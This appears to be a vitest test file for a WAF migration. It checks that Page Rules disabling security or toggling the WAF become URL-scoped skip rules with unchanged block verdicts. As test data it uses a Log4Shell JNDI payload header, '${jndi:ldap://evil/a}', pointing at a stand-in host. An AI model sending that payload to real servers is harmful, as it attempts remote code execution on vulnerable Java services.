/**
 * Page Rules through the migration (seed 002: "Page Rules with Disable Security; Page Rules with Web
 * Application Firewall set to Off or On"): the config turns them into skip rules scoped to their URL
 * patterns, and the trace gives the same verdicts before the migration (previous WAF + Page Rules)
 * and after it (new WAF + skip rules), on a zone with the WAF on and on one with it off.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { configOf, result, startWafKit, type WafKit } from './kit.js';

let kit: WafKit;
let n = 0;
beforeAll(async () => { kit = await startWafKit(); });
afterAll(async () => { await kit.h.cleanup(); });

const log4j = { 'X-Api-Version': '${jndi:ldap://evil/a}' };
type Action = { id: string; value?: string };

async function zoneWith(plan: 'pro' | 'business' | 'enterprise', rules: [string, Action[], number, string?][], wafOff = false): Promise<{ id: string; name: string; ids: string[] }> {
  const name = `pm${++n}.example`;
  const id = await kit.zone(name, plan);
  if (wafOff) result(await kit.api('PATCH', `/zones/${id}/settings/waf`, { value: 'off' }));
  const ids: string[] = [];
  for (const [path, actions, priority, status] of rules) {
    const body = { targets: [{ target: 'url', constraint: { operator: 'matches', value: `${name}${path}` } }], actions, priority, status: status ?? 'active' };
    ids.push(result<{ id: string }>(await kit.api('POST', `/zones/${id}/pagerules`, body)).id);
  }
  return { id, name, ids };
}

async function verdicts(zone: string, urls: string[]): Promise<(string | null)[]> {
  const out: (string | null)[] = [];
  for (const url of urls) out.push(result<{ action: string | null }>(await kit.trace(zone, { url, headers: log4j })).action);
  return out;
}

async function migrate(zone: string): Promise<void> {
  const put = await kit.put(zone, await configOf(kit, zone), 'waf_migration=pending&phase_two=1');
  expect([put.status, put.body.errors]).toEqual([200, []]);
}

describe('the config of a zone with Page Rules', () => {
  it('turns disable_security into a skip rule scoped to the URL pattern, before the deployments', async () => {
    const z = await zoneWith('business', [['/admin/*', [{ id: 'disable_security' }], 1]]);
    const config = await configOf(kit, z.id);
    expect(config.rules[0]).toEqual({
      id: '', version: '', ref: '', action: 'skip', enabled: true,
      expression: `(http.request.full_uri wildcard "http://${z.name}/admin/*" or http.request.full_uri wildcard "https://${z.name}/admin/*")`,
      description: `Migrated from Page Rule ${z.ids[0]}: ${z.name}/admin/* (disable_security)`,
      action_parameters: { ruleset: 'current' }, logging: { enabled: true },
    });
    expect(config.rules.slice(1).map((r) => [r.action, r.expression, r.enabled])).toEqual([['execute', 'true', true], ['execute', 'true', true]]);
  });

  it('keeps a disabled Page Rule as a disabled skip rule, and a higher waf: on rule carves its URLs out', async () => {
    const z = await zoneWith('business', [['/admin/*', [{ id: 'waf', value: 'off' }], 1], ['/admin/login*', [{ id: 'waf', value: 'on' }], 5], ['/old/*', [{ id: 'disable_security' }], 2, 'disabled']]);
    const skips = (await configOf(kit, z.id)).rules.filter((r) => r.action === 'skip');
    expect(skips.map((r) => [r.enabled, r.description])).toEqual([
      [false, `Migrated from Page Rule ${z.ids[2]}: ${z.name}/old/* (disable_security)`],
      [true, `Migrated from Page Rule ${z.ids[0]}: ${z.name}/admin/* (waf: off)`],
    ]);
    expect(skips[1]!.expression).toContain(`and not (http.request.full_uri wildcard "http://${z.name}/admin/login*"`);
  });
});

describe('zonewall test cases agree before and after the migration', () => {
  it('WAF on: disable_security and waf off switch it off for their URLs, a higher waf on wins back', async () => {
    const z = await zoneWith('business', [['/admin/*', [{ id: 'disable_security' }], 1], ['/admin/login*', [{ id: 'waf', value: 'on' }], 3], ['/legacy/*', [{ id: 'waf', value: 'off' }], 2], ['/paused/*', [{ id: 'disable_security' }], 4, 'disabled']]);
    const urls = ['admin/x', 'admin/login?next=/', 'legacy/a', 'shop', 'paused/p'].map((p) => `https://${z.name}/${p}`).concat(`http://${z.name}/admin/y`);
    const before = await verdicts(z.id, urls);
    expect(before).toEqual([null, 'block', null, 'block', 'block', null]);
    await migrate(z.id);
    expect(result<{ waf_state: string }>(await kit.status(z.id)).waf_state).toBe('new_only');
    expect(await verdicts(z.id, urls)).toEqual(before);
  });

  it('WAF off: waf on turns it on for its URLs only, a higher disable_security still wins', async () => {
    const z = await zoneWith('enterprise', [['/api/*', [{ id: 'waf', value: 'on' }], 1], ['/api/public/*', [{ id: 'disable_security' }], 2]], true);
    const urls = ['api/x', 'api/public/x', '', 'other'].map((p) => `https://${z.name}/${p}`);
    const before = await verdicts(z.id, urls);
    expect(before).toEqual(['block', null, null, null]);
    const config = await configOf(kit, z.id);
    expect(config.rules.map((r) => [r.action, r.enabled])).toEqual([['skip', true], ['execute', true], ['execute', true]]);
    expect(config.rules[0]!.expression).toMatch(/^not \(/);
    await migrate(z.id);
    expect(await verdicts(z.id, urls)).toEqual(before);
  });

  it('a trace names the Page Rule that switched the previous WAF off', async () => {
    const z = await zoneWith('pro', [['/admin/*', [{ id: 'disable_security' }], 1]]);
    const t = result<{ previous_waf: { enabled: boolean; skipped: string } }>(await kit.trace(z.id, { url: `https://${z.name}/admin/`, headers: log4j }));
    expect(t.previous_waf).toMatchObject({ enabled: false, skipped: `Page Rule ${z.ids[0]} (disable_security) switches the previous WAF off for this URL` });
  });
});
